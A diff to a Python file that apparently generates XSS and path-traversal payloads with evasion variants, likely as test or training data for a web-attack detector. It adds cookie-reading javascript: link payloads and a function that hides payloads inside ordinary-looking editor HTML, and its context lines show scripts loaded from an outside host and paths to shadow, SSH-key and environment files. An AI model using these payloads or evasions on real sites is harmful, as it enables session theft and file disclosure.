@@ -169,7 +169,8 @@ XSS = [
     "<svg onload=eval(location.hash.slice(1))>", "<iframe onload=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
     "\"-confirm`1`-\"", "</title><script>alert(1)</script>", "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
     "<xss onafterscriptexecute=alert(1)><script>1</script>", "<a id=x tabindex=1 onfocusin=alert(1)></a>", "\"><iframe src=//x55.is/f></iframe>",
-    "<keygen autofocus onfocus=alert(1)>", "<img src=x onerror=import('//x55.is/x.js')>",
+    "<keygen autofocus onfocus=alert(1)>", "[docs](javascript:alert(document.cookie))", "![x](x\" onerror=\"alert(1))",
+    "<a href=\"javascript&colon;alert(1)\">help</a>", "<img src=x onerror=import('//x55.is/x.js')>",
 ]
 
 
@@ -230,6 +231,16 @@ def xss_whitespace(p, rng):
     return out.replace("%09", "\t") if ws == "%09" and rng.random() < 0.5 else out
 
 
+def xss_rich_text(p, rng):
+    """The payload inside otherwise ordinary editor HTML, as stored-XSS attempts arrive."""
+    if not p.startswith("<"):
+        return None
+    pre = rng.choice(["<p>Great product, fast shipping!</p>", "<p>Hi <strong>team</strong>,</p><p>see below</p>", "<ul><li>size M</li></ul>",
+                      "<p>Thanks!<br>", "<blockquote>Quote from the manual</blockquote>"])
+    post = rng.choice(["", "</p>", "<p>Regards</p>", "<p>&nbsp;</p>"])
+    return pre + p + post
+
+
 def xss_null_byte(p, rng):
     if not p.startswith("<"):
         return None
@@ -237,7 +248,8 @@ def xss_null_byte(p, rng):
 
 
 XSS_EVASIONS = [("none", None, 35), ("mixed_case", xss_mixed_case, 12), ("html_entities", xss_html_entities, 12),
-                ("js_escape", xss_js_escape, 10), ("alt_whitespace", xss_whitespace, 8), ("null_byte", xss_null_byte, 3)]
+                ("js_escape", xss_js_escape, 10), ("alt_whitespace", xss_whitespace, 8), ("null_byte", xss_null_byte, 3),
+                ("rich_text_wrap", xss_rich_text, 8)]
 
 LFI_UNIX = ["etc/passwd", "etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline", "proc/version",
             "var/log/nginx/access.log", "var/log/apache2/access.log", "root/.ssh/id_rsa", "home/ubuntu/.bash_history", "etc/nginx/nginx.conf",
